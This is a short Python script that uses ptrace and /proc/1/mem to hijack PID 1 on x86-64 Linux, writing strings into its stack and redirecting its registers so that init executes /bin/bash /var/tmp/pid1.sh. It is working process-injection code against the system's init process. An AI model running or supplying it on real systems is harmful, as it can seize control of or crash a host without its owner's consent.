"""Make PID 1 execve /bin/bash /var/tmp/pid1.sh (x86-64): seize, interrupt, write the
strings below its stack pointer, point the registers at a syscall instruction, detach."""
import ctypes
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
SEIZE, INTERRUPT, GETREGS, SETREGS, DETACH = 0x4206, 0x4207, 12, 13, 17


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


def call(req, pid, addr=None, data=None):
    if libc.ptrace(req, pid, addr, data) == -1:
        err = ctypes.get_errno()
        sys.exit(f"ptrace({req}) on PID {pid}: {os.strerror(err)}")


call(SEIZE, 1)
call(INTERRUPT, 1)
os.waitpid(1, 0x40000000)  # __WALL
regs = Regs()
call(GETREGS, 1, None, ctypes.byref(regs))
base = (regs.rsp - 4096) & ~0xF
path, arg, script = b"/bin/bash\0", b"bash\0", b"/var/tmp/pid1.sh\0"
p_path, p_arg, p_script = base, base + 64, base + 128
argv = base + 256
blob = {p_path: path, p_arg: arg, p_script: script, argv: struct.pack("<QQQ", p_arg, p_script, 0)}
with open("/proc/1/mem", "r+b", buffering=0) as mem:
    for addr, data in blob.items():
        mem.seek(addr)
        mem.write(data)
    mem.seek(regs.rip - 2)
    in_syscall = mem.read(2) == b"\x0f\x05"
    if not in_syscall:  # find a syscall instruction in the code near rip
        mem.seek(regs.rip & ~0xFFF)
        page = mem.read(4096)
        regs.rip = (regs.rip & ~0xFFF) + page.index(b"\x0f\x05") + 2
regs.rax, regs.orig_rax = 59, 0xFFFFFFFFFFFFFFFF
regs.rdi, regs.rsi, regs.rdx, regs.rsp = p_path, argv, 0, base - 512
regs.rip -= 2
call(SETREGS, 1, None, ctypes.byref(regs))
call(DETACH, 1)
print("PID 1 now runs /var/tmp/pid1.sh")
